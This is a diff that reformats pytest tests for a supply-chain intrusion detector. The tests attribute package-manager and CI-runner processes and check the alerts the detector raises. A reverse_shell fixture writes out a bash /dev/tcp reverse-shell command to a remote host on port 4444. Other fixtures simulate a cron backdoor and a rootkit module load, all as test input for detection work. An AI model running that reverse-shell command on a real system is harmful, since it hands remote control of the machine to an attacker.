@@ -22,47 +22,59 @@ def root_of(filename: str, *argv: str) -> str | None:
     return found[0].context if found else None
 
 
-@pytest.mark.parametrize(("filename", "argv", "context"), [
-    ("/usr/bin/node", ("node", "/usr/bin/npm", "install"), "package_install_npm"),
-    ("/usr/bin/node", ("node", NPM, "ci"), "package_install_npm"),
-    ("/usr/bin/node", ("node", "/usr/bin/npm", "--prefix", "/src", "i", "./x.tgz"), "package_install_npm"),
-    ("/usr/bin/npm", ("npm", "install"), "package_install_npm"),
-    ("/usr/bin/node", ("node", "/usr/bin/npx", "cowsay"), "package_install_npm"),
-    ("/usr/bin/node", ("node", "/usr/bin/yarn"), "package_install_yarn"),
-    ("/usr/local/bin/pnpm", ("pnpm", "add", "left-pad"), "package_install_pnpm"),
-    ("/usr/bin/python3.11", ("python3", "-m", "pip", "install", "./pkg"), "package_install_pip"),
-    ("/venv/bin/pip3.11", ("/venv/bin/python", "/venv/bin/pip3.11", "install", "x"), "package_install_pip"),
-    ("/usr/bin/python3", ("/venv/bin/python", "/venv/bin/pip", "wheel", "x"), "package_install_pip"),
-    ("/root/.cargo/bin/uv", ("uv", "pip", "install", "x"), "package_install_uv"),
-    ("/usr/bin/python3", ("python3", "/usr/bin/poetry", "install"), "package_install_poetry"),
-    ("/usr/bin/ruby3.1", ("ruby", "/usr/bin/gem", "install", "rails"), "package_install_gem"),
-    ("/src/target/debug/build/evil-1a2b/build-script-build", ("build-script-build",), "package_install_cargo"),
-    ("/usr/bin/php8.2", ("php", "/usr/local/bin/composer", "require", "a/b"), "package_install_composer"),
-    ("/usr/bin/dpkg", ("dpkg", "-i", "x.deb"), "package_install_dpkg"),
-    ("/var/lib/dpkg/info/x.postinst", ("/bin/sh", "/var/lib/dpkg/info/x.postinst", "configure"),
-     "package_install_dpkg"),
-    ("/usr/bin/rpm", ("rpm", "-Uvh", "x.rpm"), "package_install_rpm"),
-    ("/opt/runner/bin/Runner.Worker", ("/opt/runner/bin/Runner.Worker", "spawnclient", "3", "4"),
-     "cicd_runner_github_actions"),
-    ("/usr/bin/gitlab-runner", ("gitlab-runner", "run"), "cicd_runner_gitlab"),
-    ("/usr/bin/java", ("java", "-jar", "/home/jenkins/agent.jar", "-url", "x"), "cicd_runner_jenkins"),
-    ("/usr/bin/buildkite-agent", ("buildkite-agent", "bootstrap"), "cicd_runner_buildkite"),
-])
+@pytest.mark.parametrize(
+    ("filename", "argv", "context"),
+    [
+        ("/usr/bin/node", ("node", "/usr/bin/npm", "install"), "package_install_npm"),
+        ("/usr/bin/node", ("node", NPM, "ci"), "package_install_npm"),
+        ("/usr/bin/node", ("node", "/usr/bin/npm", "--prefix", "/src", "i", "./x.tgz"), "package_install_npm"),
+        ("/usr/bin/npm", ("npm", "install"), "package_install_npm"),
+        ("/usr/bin/node", ("node", "/usr/bin/npx", "cowsay"), "package_install_npm"),
+        ("/usr/bin/node", ("node", "/usr/bin/yarn"), "package_install_yarn"),
+        ("/usr/local/bin/pnpm", ("pnpm", "add", "left-pad"), "package_install_pnpm"),
+        ("/usr/bin/python3.11", ("python3", "-m", "pip", "install", "./pkg"), "package_install_pip"),
+        ("/venv/bin/pip3.11", ("/venv/bin/python", "/venv/bin/pip3.11", "install", "x"), "package_install_pip"),
+        ("/usr/bin/python3", ("/venv/bin/python", "/venv/bin/pip", "wheel", "x"), "package_install_pip"),
+        ("/root/.cargo/bin/uv", ("uv", "pip", "install", "x"), "package_install_uv"),
+        ("/usr/bin/python3", ("python3", "/usr/bin/poetry", "install"), "package_install_poetry"),
+        ("/usr/bin/ruby3.1", ("ruby", "/usr/bin/gem", "install", "rails"), "package_install_gem"),
+        ("/src/target/debug/build/evil-1a2b/build-script-build", ("build-script-build",), "package_install_cargo"),
+        ("/usr/bin/php8.2", ("php", "/usr/local/bin/composer", "require", "a/b"), "package_install_composer"),
+        ("/usr/bin/dpkg", ("dpkg", "-i", "x.deb"), "package_install_dpkg"),
+        (
+            "/var/lib/dpkg/info/x.postinst",
+            ("/bin/sh", "/var/lib/dpkg/info/x.postinst", "configure"),
+            "package_install_dpkg",
+        ),
+        ("/usr/bin/rpm", ("rpm", "-Uvh", "x.rpm"), "package_install_rpm"),
+        (
+            "/opt/runner/bin/Runner.Worker",
+            ("/opt/runner/bin/Runner.Worker", "spawnclient", "3", "4"),
+            "cicd_runner_github_actions",
+        ),
+        ("/usr/bin/gitlab-runner", ("gitlab-runner", "run"), "cicd_runner_gitlab"),
+        ("/usr/bin/java", ("java", "-jar", "/home/jenkins/agent.jar", "-url", "x"), "cicd_runner_jenkins"),
+        ("/usr/bin/buildkite-agent", ("buildkite-agent", "bootstrap"), "cicd_runner_buildkite"),
+    ],
+)
 def test_roots_are_recognised_by_path_and_argv(filename: str, argv: tuple[str, ...], context: str) -> None:
     assert root_of(filename, *argv) == context
 
 
-@pytest.mark.parametrize(("filename", "argv"), [
-    ("/usr/bin/node", ("node", "/usr/bin/npm", "--version")),
-    ("/usr/bin/node", ("node", "/usr/bin/npm", "run", "build")),
-    ("/usr/bin/node", ("node", "-e", "require('/usr/bin/npm')")),
-    ("/usr/bin/python3", ("python3", "-m", "pip", "list")),
-    ("/usr/bin/python3", ("python3", "setup.py", "install")),
-    ("/usr/bin/dpkg", ("dpkg", "-l")),
-    ("/usr/bin/rpm", ("rpm", "-qa")),
-    ("/usr/bin/apt-get", ("apt-get", "update")),
-    ("/usr/bin/bash", ("Runner.Worker",)),  # argv[0] and comm are chosen by the caller: never enough
-])
+@pytest.mark.parametrize(
+    ("filename", "argv"),
+    [
+        ("/usr/bin/node", ("node", "/usr/bin/npm", "--version")),
+        ("/usr/bin/node", ("node", "/usr/bin/npm", "run", "build")),
+        ("/usr/bin/node", ("node", "-e", "require('/usr/bin/npm')")),
+        ("/usr/bin/python3", ("python3", "-m", "pip", "list")),
+        ("/usr/bin/python3", ("python3", "setup.py", "install")),
+        ("/usr/bin/dpkg", ("dpkg", "-l")),
+        ("/usr/bin/rpm", ("rpm", "-qa")),
+        ("/usr/bin/apt-get", ("apt-get", "update")),
+        ("/usr/bin/bash", ("Runner.Worker",)),  # argv[0] and comm are chosen by the caller: never enough
+    ],
+)
 def test_non_roots(filename: str, argv: tuple[str, ...]) -> None:
     assert root_of(filename, *argv) is None
 
@@ -130,8 +142,10 @@ def test_seeded_processes_get_their_context() -> None:
 def test_kernel_is_written_only_where_it_disagrees_and_only_once() -> None:
     w = World()
     npm_install(w)  # npm is an argv root: the kernel could not tag it by name
-    assert [wr[:3] for wr in w.kernel_writes] == [(11, w.start[11], CONTEXTS["package_install_npm"]),
-                                                  (12, w.start[12], CONTEXTS["package_install_npm"])]
+    assert [wr[:3] for wr in w.kernel_writes] == [
+        (11, w.start[11], CONTEXTS["package_install_npm"]),
+        (12, w.start[12], CONTEXTS["package_install_npm"]),
+    ]
     count = len(w.kernel_writes)
     w.connect(12, REMOTE, 4444, 0.5)  # the header still says "no context": already written, not again
     assert len(w.kernel_writes) == count
@@ -142,20 +156,34 @@ def test_kernel_context_is_used_when_the_lineage_is_missing() -> None:
     w.spawn(40, None, "/usr/bin/gitlab-runner", ("gitlab-runner", "run"))
     # pid 41's fork was lost; its exec says the kernel holds it in pid 40's context.
     w.start[41], w.ppid[41], w.comm[41] = int(2e12), 999, "bash"
-    hdr = {**w.header(41, 1.0), "context": CONTEXTS["cicd_runner_gitlab"], "context_root_pid": 40,
-           "context_root_start": w.start[40]}
+    hdr = {
+        **w.header(41, 1.0),
+        "context": CONTEXTS["cicd_runner_gitlab"],
+        "context_root_pid": 40,
+        "context_root_start": w.start[40],
+    }
     w.feed(Exec(**hdr, filename="/usr/bin/bash", args=("bash",)))
     assert context(w, 41) == "cicd_runner_gitlab"
     assert w.tagger.kernel_fallbacks == 1
 
 
 def reverse_shell(w: World, pid: int, parent: int, t: float, **env: Any) -> None:
-    w.spawn(pid, parent, "/usr/bin/bash", ("bash", "-c", f"bash -i >& /dev/tcp/{REMOTE}/4444 0>&1"), t=t,
-            env=env)
+    w.spawn(pid, parent, "/usr/bin/bash", ("bash", "-c", f"bash -i >& /dev/tcp/{REMOTE}/4444 0>&1"), t=t, env=env)
     w.connect(pid, REMOTE, 4444, t + 0.01)
     w.dup(pid, 0, t + 0.02)
-    w.exec(pid, "/usr/bin/bash", ("bash", "-i"), t + 0.03, stdio=("socket",) * 3, stdio_socket_fd=0,
-           stdio_family="ipv4", stdio_transport="tcp", stdio_daddr=REMOTE, stdio_dport=4444, env=env)
+    w.exec(
+        pid,
+        "/usr/bin/bash",
+        ("bash", "-i"),
+        t + 0.03,
+        stdio=("socket",) * 3,
+        stdio_socket_fd=0,
+        stdio_family="ipv4",
+        stdio_transport="tcp",
+        stdio_daddr=REMOTE,
+        stdio_dport=4444,
+        env=env,
+    )
 
 
 def cron_write(w: World, pid: int, parent: int, t: float, path: str = "/etc/cron.d/x") -> None:
@@ -214,12 +242,24 @@ def test_dpkg_unpacking_its_own_cron_file_is_not_persistence_but_its_maintainer_
     w = World()
     w.spawn(60, None, "/usr/bin/dpkg", ("dpkg", "-i", "/tmp/cronpkg_1.0_all.deb"))
     w.feed(FileWrite(**w.header(60, 0.1), path="/etc/cron.d/cronpkg.dpkg-new", operation="open", flags_open=0o101))
-    w.feed(FileWrite(**w.header(60, 0.2), path="/etc/cron.d/cronpkg", source_path="/etc/cron.d/cronpkg.dpkg-new",
-                     operation="rename"))
+    w.feed(
+        FileWrite(
+            **w.header(60, 0.2),
+            path="/etc/cron.d/cronpkg",
+            source_path="/etc/cron.d/cronpkg.dpkg-new",
+            operation="rename",
+        )
+    )
     assert w.alerts == [] and w.engine.detectors.unpacker_writes == 2
     postinst = {"DPKG_MAINTSCRIPT_PACKAGE": "cronpkg", "DPKG_MAINTSCRIPT_NAME": "postinst"}
-    w.spawn(61, 60, "/var/lib/dpkg/info/cronpkg.postinst", ("/bin/sh", "/var/lib/dpkg/info/cronpkg.postinst",
-                                                           "configure"), t=0.3, env=postinst)
+    w.spawn(
+        61,
+        60,
+        "/var/lib/dpkg/info/cronpkg.postinst",
+        ("/bin/sh", "/var/lib/dpkg/info/cronpkg.postinst", "configure"),
+        t=0.3,
+        env=postinst,
+    )
     cron_write(w, 62, 61, 0.4, path="/etc/cron.d/backdoor")
     (alert,) = w.alerts
     assert alert["event"]["severity"] == 47
@@ -231,15 +271,27 @@ def test_module_load_is_persistence() -> None:
     w = World()
     npm_install(w)
     w.spawn(13, 12, "/usr/sbin/insmod", ("insmod", "/tmp/rk.ko"), t=0.3)
-    w.feed(ModuleLoad(**w.header(13, 0.31), source="exec", syscall="execve", filename="/usr/sbin/insmod",
-                      args=("insmod", "/tmp/rk.ko")))
+    w.feed(
+        ModuleLoad(
+            **w.header(13, 0.31),
+            source="exec",
+            syscall="execve",
+            filename="/usr/sbin/insmod",
+            args=("insmod", "/tmp/rk.ko"),
+        )
+    )
     (alert,) = w.alerts
     assert alert["file"]["path"] == "/tmp/rk.ko" and alert["event"]["severity"] == 47
 
 
 def github_job(w: World, tracking: str = "github_abc") -> dict[str, str]:
-    env = {"GITHUB_REPOSITORY": "org/repo", "GITHUB_RUN_ID": "123", "GITHUB_JOB": "build",
-           "GITHUB_WORKFLOW": "CI", "RUNNER_TRACKING_ID": tracking}
+    env = {
+        "GITHUB_REPOSITORY": "org/repo",
+        "GITHUB_RUN_ID": "123",
+        "GITHUB_JOB": "build",
+        "GITHUB_WORKFLOW": "CI",
+        "RUNNER_TRACKING_ID": tracking,
+    }
     w.spawn(70, None, "/opt/runner/bin/Runner.Worker", ("Runner.Worker", "spawnclient"))
     w.spawn(71, 70, "/usr/bin/bash", ("bash", "-e", "/home/runner/work/_temp/step.sh"), t=0.1, env=env)
     return env
@@ -251,8 +303,13 @@ def test_ci_reverse_shell_names_the_job() -> None:
     reverse_shell(w, 72, 71, 0.2, **env)
     alert = w.alerts[0]
     assert alert["supply_chain"]["context"] == "cicd_runner_github_actions"
-    assert alert["supply_chain"]["ci"] == {"provider": "github_actions", "repository": "org/repo",
-                                           "workflow": "CI", "run_id": "123", "job": "build"}
+    assert alert["supply_chain"]["ci"] == {
+        "provider": "github_actions",
+        "repository": "org/repo",
+        "workflow": "CI",
+        "run_id": "123",
+        "job": "build",
+    }
     assert "package" not in alert["supply_chain"]
 
 
@@ -262,8 +319,13 @@ def test_gitlab_job_attribution() -> None:
     env = {"CI_PROJECT_PATH": "group/app", "CI_PIPELINE_ID": "555", "CI_JOB_ID": "9001", "CI_JOB_NAME": "test"}
     w.spawn(81, 80, "/usr/bin/bash", ("bash", "--login"), t=0.1, env=env)
     reverse_shell(w, 82, 81, 0.2, **env)
-    assert w.alerts[0]["supply_chain"]["ci"] == {"provider": "gitlab", "repository": "group/app", "run_id": "555",
-                                                 "job": "test", "job_id": "9001"}
+    assert w.alerts[0]["supply_chain"]["ci"] == {
+        "provider": "gitlab",
+        "repository": "group/app",
+        "run_id": "555",
+        "job": "test",
+        "job_id": "9001",
+    }
 
 
 def test_runner_tracking_id_change_is_a_signal_in_the_job() -> None:
@@ -287,10 +349,16 @@ def test_labels_are_labels_only() -> None:
 
 def test_pip_attribution_from_build_directory_and_requirement() -> None:
     w = World()
-    w.spawn(90, None, "/venv/bin/python3", ("/venv/bin/python3", "/venv/bin/pip", "install",
-                                            "/tmp/src/evilpy-2.0.tar.gz"))
-    w.spawn(91, 90, "/venv/bin/python3", ("/venv/bin/python3", "/venv/lib/pip/_in_process.py",
-                                          "get_requires_for_build_wheel", "/tmp/tmpabc"), t=0.1)
+    w.spawn(
+        90, None, "/venv/bin/python3", ("/venv/bin/python3", "/venv/bin/pip", "install", "/tmp/src/evilpy-2.0.tar.gz")
+    )
+    w.spawn(
+        91,
+        90,
+        "/venv/bin/python3",
+        ("/venv/bin/python3", "/venv/lib/pip/_in_process.py", "get_requires_for_build_wheel", "/tmp/tmpabc"),
+        t=0.1,
+    )
     reverse_shell(w, 92, 91, 0.2)
     pkg = w.alerts[0]["supply_chain"]["package"]
     assert pkg == {"manager": "pip", "name": "evilpy", "version": "2.0", "hook": "get_requires_for_build_wheel"}
@@ -299,8 +367,13 @@ def test_pip_attribution_from_build_directory_and_requirement() -> None:
 def test_pip_attribution_from_a_pip_install_directory() -> None:
     w = World()
     w.spawn(90, None, "/usr/bin/python3", ("python3", "-m", "pip", "install", "evilpy", "other"))
-    w.spawn(91, 90, "/usr/bin/python3", ("python3", "/tmp/pip-install-x1/evilpy_" + "0" * 32 + "/setup.py",
-                                         "egg_info"), t=0.1)
+    w.spawn(
+        91,
+        90,
+        "/usr/bin/python3",
+        ("python3", "/tmp/pip-install-x1/evilpy_" + "0" * 32 + "/setup.py", "egg_info"),
+        t=0.1,
+    )
     reverse_shell(w, 92, 91, 0.2)
     assert w.alerts[0]["supply_chain"]["package"] == {"manager": "pip", "name": "evilpy", "hook": "setup.py"}
     # a bare build directory names nothing, and setup.py is not a package name
@@ -321,9 +394,13 @@ def test_root_name_memo_agrees_with_the_patterns_and_stays_bounded(monkeypatch) 
         calls = invocations(filename, argv, LISTS.script_interpreters)
         return next((root.context for root in LISTS.context_roots if root.match(filename, calls)), None)
 
-    cases = [("/bin/true", ("/bin/true",)), ("/usr/bin/gcc", ("gcc", "-c", "x.c")),
-             ("/usr/bin/npm", ("npm", "install")), ("/usr/bin/npm", ("npm", "--version")),
-             ("/usr/bin/python3", ("python3", "-m", "pip", "install", "x"))]
+    cases = [
+        ("/bin/true", ("/bin/true",)),
+        ("/usr/bin/gcc", ("gcc", "-c", "x.c")),
+        ("/usr/bin/npm", ("npm", "install")),
+        ("/usr/bin/npm", ("npm", "--version")),
+        ("/usr/bin/python3", ("python3", "-m", "pip", "install", "x")),
+    ]
     for _ in range(2):
         for filename, argv in cases:
             assert root_of(filename, *argv) == unmemoized(filename, argv), (filename, argv)
